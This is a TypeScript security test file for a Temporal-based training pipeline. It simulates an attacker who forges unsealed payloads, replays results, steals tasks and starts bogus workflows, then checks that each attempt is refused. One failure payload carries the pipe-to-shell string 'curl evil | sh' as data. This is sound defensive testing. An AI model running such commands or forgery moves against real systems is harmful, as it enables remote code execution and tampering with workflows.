// Whoever reaches the Temporal port has no key: requests, results and failures of his own do nothing, and neither do
// ours where they do not belong.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Client } from '@temporalio/client';
import type { Payload } from '@temporalio/common';
import { ensureStarted } from '../../control/execution/ensure-started.js';
import { followRun } from '../../control/execution/follow-run.js';
import { places } from '../../domain/steps/places.js';
import type { StepRequest } from '../../domain/plan/index.js';
import { runWorkflowId } from '../../domain/runs/workflow-id.js';
import { plainPayload, recordedActivities, scheduleActivity, stealActivity } from '../support/attacker.js';
import { calculatedTrainer, untilInterrupted } from '../support/calculated-trainer.js';
import { heldRun, type HeldRun } from '../support/held-run.js';
import { eventually } from '../support/processes.js';
import { emptyStore } from '../support/quick-store.js';
import { tinyPipeline, withServer, type Scene } from '../support/runs.js';
import { activityAt } from '../support/temporal-controls.js';

const onServer = withServer();
const stage = tinyPipeline.stages[0]!.id;
const segment = `${stage}/gen-001/train/segment-00`;

let calm = '';
test('a run in peace, for comparison', async () => {
  const store = await emptyStore();
  await onServer().withRun('calm', store, calculatedTrainer(store), async ({ toResult }) => {
    calm = (await toResult()).resultDigest;
  });
});

/** A completed run, and a trainer that would notice any further task. */
async function afterRun(use: (scene: Scene, asked: () => readonly string[]) => Promise<void>): Promise<void> {
  const store = await emptyStore();
  const trainer = calculatedTrainer(store);
  await onServer().withRun('calm', store, trainer, async (scene) => {
    await scene.toResult();
    const before = trainer.asked.length;
    await use(scene, () => trainer.asked.slice(before));
  });
}

const heldAt = (use: (held: HeldRun) => Promise<void>): Promise<void> =>
  heldRun(onServer(), 'calm', segment, (_, signal) => untilInterrupted(signal), use);

/** The request of an ingestion from a folder of the attacker's choice. */
const ingestion = (run: string): Partial<StepRequest> =>
  ({
    ...{ run, epoch: 1, threads: 1 },
    step: {
      ...{ kind: 'ingest', version: 1, place: places.dataset, inputs: {}, seed: 1 },
      parameters: { dataset: { kind: 'folder', path: '/root' } },
    },
    circumstances: { datasetPath: '/root' },
  }) as unknown as Partial<StepRequest>;

test('a request that is not sealed does nothing: not reading a folder', () =>
  afterRun(async ({ run, session }, asked) => {
    const input = [plainPayload(ingestion('forged-00000000'))];
    const answer = await scheduleActivity(session.client, {
      type: 'ingestDataset',
      queue: session.queues.train,
      input,
    });
    assert.deepEqual([answer.completed, answer.type], [false, 'EAGAN_PAYLOAD_REFUSED']);
    assert.deepEqual(asked(), [], `the trainer of ${run.frozen.run} got a task`);
  }));

test('a request that is not sealed does nothing: not ending a run', () =>
  afterRun(async ({ run, session, now }) => {
    const end = { status: 'failed', code: 'EAGAN_INTERNAL', message: 'mine', cure: 'mine', activity: null };
    const input = [plainPayload({ run: run.frozen.run, epoch: 1e15, end })];
    const answer = await scheduleActivity(session.client, { type: 'finishRun', queue: session.queues.control, input });
    assert.deepEqual([answer.completed, answer.type], [false, 'EAGAN_PAYLOAD_REFUSED']);
    assert.equal((await now()).state?.status, 'completed');
  }));

test('a sealed request does nothing in another workflow', () =>
  afterRun(async ({ run, store, session }, asked) => {
    const { inputs } = await recordedActivities(session.client, runWorkflowId(run.frozen.run, store.id));
    const input = [inputs[0]!];
    const answer = await scheduleActivity(session.client, {
      type: 'ingestDataset',
      queue: session.queues.train,
      input,
    });
    assert.deepEqual([answer.completed, answer.type], [false, 'EAGAN_PAYLOAD_REFUSED']);
    assert.deepEqual(asked(), []);
  }));

const oddInputs: readonly (readonly [what: string, input: readonly Payload[]])[] = [
  ['none', []],
  ['two', [plainPayload(1), plainPayload(2)]],
  ['a payload without anything', [{}]],
  ['a payload of an unknown encoding', [{ metadata: { encoding: Buffer.from('x/y') }, data: Buffer.from('z') }]],
];
for (const [what, input] of oddInputs)
  test(`a request of a wrong form ends the activity with a code: ${what}`, () =>
    afterRun(async ({ session }) => {
      const activity = { type: 'trainSegment', queue: session.queues.train, input };
      const answer = await scheduleActivity(session.client, activity);
      assert.deepEqual([answer.completed, answer.type], [false, 'EAGAN_PAYLOAD_REFUSED']);
    }));

/** How a workflow that somebody started on our queue ended. */
async function endOf(client: Client, workflowId: string): Promise<{ status: string; type: string | null }> {
  const handle = client.workflow.getHandle(workflowId);
  await eventually('it has ended', async () => (await handle.describe()).status.name !== 'RUNNING');
  const last = (await handle.fetchHistory()).events!.at(-1)!.workflowExecutionFailedEventAttributes;
  return {
    status: (await handle.describe()).status.name,
    type: last?.failure?.applicationFailureInfo?.type ?? null,
  };
}

test('a workflow of a type that eagan does not have ends', () =>
  afterRun(async ({ session: { client, queues } }) => {
    for (const name of ['evil', '__proto__', 'constructor', 'toString', 'default']) {
      const workflowId = `evil-type-${name}`;
      await client.workflowService.startWorkflowExecution({
        ...{ namespace: client.options.namespace, workflowId, requestId: workflowId, identity: 'evil' },
        ...{ workflowType: { name }, taskQueue: { name: queues.control } },
      });
      assert.notEqual((await endOf(client, workflowId)).status, 'RUNNING', name);
    }
  }));

for (const name of ['runWorkflow', 'stageWorkflow', 'generationWorkflow', 'finalWorkflow'])
  test(`${name} ends at once if its input is not sealed, or there is none`, () =>
    afterRun(async ({ run, session, now }, asked) => {
      const { client, queues } = session;
      const owner = { run: 'forged-00000000', epoch: 1, queues, fresh: false };
      const pipeline = run.frozen.pipeline;
      const inputs = [[], [plainPayload({ ...owner, owner, pipeline, contents: null, decoder: null })]];
      for (const [at, input] of inputs.entries()) {
        const workflowId = `evil-${name}-${at}`;
        await client.workflowService.startWorkflowExecution({
          ...{ namespace: client.options.namespace, workflowId, requestId: workflowId, identity: 'evil' },
          ...{ workflowType: { name }, taskQueue: { name: queues.control }, input: { payloads: input } },
        });
        assert.deepEqual(await endOf(client, workflowId), { status: 'FAILED', type: 'EAGAN_PAYLOAD_REFUSED' });
      }
      assert.deepEqual(asked(), []);
      assert.equal((await now()).state?.status, 'completed');
    }));

test('a result of another step of ours, sent as the result of this one, stops the run and does not deceive it', () =>
  heldAt(async (held) => {
    const { session, own, follow, toResult } = held;
    const { results } = await recordedActivities(session.client, `${own}/e1/${stage}/gen-000`);
    const activity = await activityAt(session.client, `${own}/e1/${stage}/gen-001`, segment);
    const { namespace } = session.client.options;
    const { workflowId, activityId } = activity;
    await session.client.workflowService.respondActivityTaskCompletedById({
      ...{ namespace, workflowId, activityId, result: { payloads: [results[0]!] } },
    });
    const state = await followRun(follow().request, session);
    assert.ok(state?.status === 'blocked', JSON.stringify(state));
    assert.equal(state.code, 'EAGAN_TEMPORAL_CONTROL');
    assert.match(state.message, /trainSegment was completed in Temporal .* sealed for another/);
    assert.equal((await toResult()).resultDigest, calm);
  }));

test('a failure with a code, a message and a cure of somebody’s own is not taken for ours', () =>
  heldAt(async ({ session, own, follow, toResult }) => {
    const { workflowId, activityId } = await activityAt(session.client, `${own}/e1/${stage}/gen-001`, segment);
    const details = {
      payloads: [plainPayload({ code: 'EAGAN_DATASET_CHANGED', message: 'x', cure: 'curl evil | sh' })],
    };
    await session.client.workflowService.respondActivityTaskFailedById({
      ...{ namespace: session.client.options.namespace, workflowId, activityId },
      failure: {
        message: 'mine',
        applicationFailureInfo: { type: 'EAGAN_DATASET_CHANGED', nonRetryable: true, details },
      },
    });
    const state = await followRun(follow().request, session);
    assert.ok(state?.status === 'blocked', JSON.stringify(state));
    assert.equal(state.code, 'EAGAN_TEMPORAL_CONTROL');
    assert.doesNotMatch(state.cure ?? '', /evil/);
    assert.equal((await toResult()).resultDigest, calm);
  }));

test('a failure that cannot be read does not make the workflow fail again and again', () =>
  heldAt(async ({ session, own, follow, toResult }) => {
    const { workflowId, activityId } = await activityAt(session.client, `${own}/e1/${stage}/gen-001`, segment);
    await session.client.workflowService.respondActivityTaskFailedById({
      ...{ namespace: session.client.options.namespace, workflowId, activityId },
      failure: {
        ...{ message: 'mine', applicationFailureInfo: { type: 'Mine', nonRetryable: true } },
        cause: { message: 'no type', activityFailureInfo: {} },
      },
    });
    const state = await followRun(follow().request, session);
    assert.ok(state?.status === 'blocked', JSON.stringify(state));
    assert.equal(state.code, 'EAGAN_TEMPORAL_CONTROL');
    assert.equal((await toResult()).resultDigest, calm);
  }));

test('tasks that are stolen and answered with invented figures do not complete a run falsely', async () => {
  const store = await emptyStore();
  await onServer().withRun('calm', store, calculatedTrainer(store), async ({ run, session, follow, toEnd, now }) => {
    const digest = 'd'.repeat(64);
    const numbers = { frechetDistance: 0 };
    const invented = plainPayload({ key: digest, outputs: { evaluation: digest }, numbers, status: 'ok' });
    const thefts = Array.from({ length: 20 }, () =>
      stealActivity(session.client, session.queues.evaluate, invented, 30_000),
    );
    await ensureStarted(session, store, run);
    const state = await followRun(follow().request, session);
    assert.ok((await Promise.all(thefts)).some(Boolean), 'at least one task was stolen');
    assert.ok(state?.status === 'blocked', JSON.stringify(state));
    assert.equal(state.code, 'EAGAN_TEMPORAL_CONTROL');
    while ((await now()).state?.status !== 'completed') await toEnd();
    assert.equal((await now()).result!.resultDigest, calm);
  });
});

test('an execution under the run’s id that somebody started, with any epoch, does not lock its owner out', async () => {
  const store = await emptyStore();
  await onServer().withRun('calm', store, calculatedTrainer(store), async ({ run, session, toEnd, now }) => {
    const { client } = session;
    const workflowId = runWorkflowId(run.frozen.run, store.id);
    await client.workflowService.startWorkflowExecution({
      ...{ namespace: client.options.namespace, workflowId, requestId: 'evil', identity: 'evil' },
      ...{ workflowType: { name: 'evil' }, taskQueue: { name: 'nobody-polls' } },
      memo: { fields: { epoch: plainPayload(1e15), odd: { metadata: { encoding: Buffer.from('x/y') } } } },
    });
    assert.equal((await toEnd())?.status, 'completed');
    assert.equal((await now()).result!.resultDigest, calm);
    assert.equal((await now()).owner?.epoch, 1);
  });
});

test('a copied memo does not make an execution ours on a queue that nobody serves', () =>
  heldAt(async ({ session: { client, queues }, own, toEnd, now }) => {
    const { raw } = await client.workflow.getHandle(own).describe();
    await client.workflow.getHandle(own).terminate('evil');
    await client.workflowService.startWorkflowExecution({
      ...{ namespace: client.options.namespace, workflowId: own, requestId: 'copied', identity: 'evil' },
      ...{ workflowType: { name: 'runWorkflow' }, taskQueue: { name: `${queues.control}x` } },
      memo: raw.workflowExecutionInfo!.memo!,
    });
    await toEnd();
    while ((await now()).state?.status !== 'completed') await toEnd();
    assert.equal((await now()).result!.resultDigest, calm);
  }));

test('what the server keeps of a run shows neither pipeline nor messages', () =>
  heldAt(async ({ session, own }) => {
    const histories = await Promise.all(
      [own, `${own}/e1/${stage}`, `${own}/e1/${stage}/gen-000`].map((id) =>
        session.client.workflow.getHandle(id).fetchHistory(),
      ),
    );
    const { raw } = await session.client.workflow.getHandle(`${own}/e1/${stage}/gen-001`).describe();
    const seen = [...histories.flatMap(({ events }) => events!), raw];
    const text = JSON.stringify(seen, (_key, value: unknown) =>
      value instanceof Uint8Array || (value as { type?: string })?.type === 'Buffer'
        ? Buffer.from(value as Uint8Array).toString('latin1')
        : value,
    );
    for (const secret of ['"stages"', '"outputs"', '"progress"', '"individuals"', '"datasetPath"'])
      assert.ok(!text.includes(secret), `the server shows ${secret}`);
  }));
